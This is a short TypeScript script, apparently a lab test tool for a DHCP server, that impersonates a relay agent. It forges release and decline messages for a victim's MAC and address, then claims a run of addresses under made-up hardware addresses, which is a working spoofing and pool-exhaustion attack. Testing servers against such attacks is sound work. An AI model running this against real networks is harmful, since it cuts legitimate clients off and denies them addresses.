// Speaks in the name of a relay agent from wherever it is started: `dhcp-forger.ts TO GIADDR VICTIM-MAC VICTIM-ADDRESS FROM-ADDRESS COUNT`
// gives a client's address back and declines it, and takes COUNT addresses from FROM-ADDRESS on, each for a hardware address of its own.

import { createSocket } from 'node:dgram';
import { mac, parseMac } from '../../src/ground/address.ts';
import { type ClientWords, clientBytes } from '../dhcp/lab.ts';
import { ip } from '../support/lab-facts.ts';

const [, , to = '', giaddr = '', victim = '', held = '', low = '', count = ''] = process.argv;
const socket = createSocket('udp4');
await new Promise<void>((resolve) => socket.bind(67, () => resolve()));
const send = (words: ClientWords): Promise<void> =>
  new Promise((resolve, reject) => {
    const bytes = clientBytes({ giaddr: ip(giaddr), server: ip(to), ...words });
    socket.send(bytes, 67, to, (error) => (error === null ? resolve() : reject(error)));
  });
const victimMac = parseMac(victim) ?? mac(0);
await send({ type: 'release', mac: victimMac, ciaddr: ip(held) });
await send({ type: 'decline', mac: victimMac, requested: ip(held) });
const [a, b, c, d] = low.split('.').map(Number);
for (let index = 0; index < Number(count); index += 1) {
  const requested = ip(`${a}.${b}.${c}.${(d ?? 0) + index}`);
  const who = { mac: mac(0x02_bad0_000000 + index), requested };
  await send({ ...who, type: 'discover', server: undefined });
  await send({ ...who, type: 'request' });
}
socket.close();
